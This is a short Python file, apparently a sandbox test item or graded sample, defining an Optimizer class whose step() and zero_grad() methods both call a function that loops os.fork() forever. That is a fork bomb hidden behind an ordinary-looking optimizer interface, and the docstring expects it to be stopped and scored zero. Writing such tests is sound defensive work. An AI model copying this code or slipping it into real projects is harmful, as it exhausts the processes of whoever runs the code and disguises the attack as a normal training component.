"""Expect: no process is started, none is left.

Earns: 0
"""

import os


def attack():
    while True:
        os.fork()


class Optimizer:
    def __init__(self, params, lr):
        self.params = list(params)
        self.lr = lr

    def step(self):
        attack()

    def zero_grad(self):
        attack()
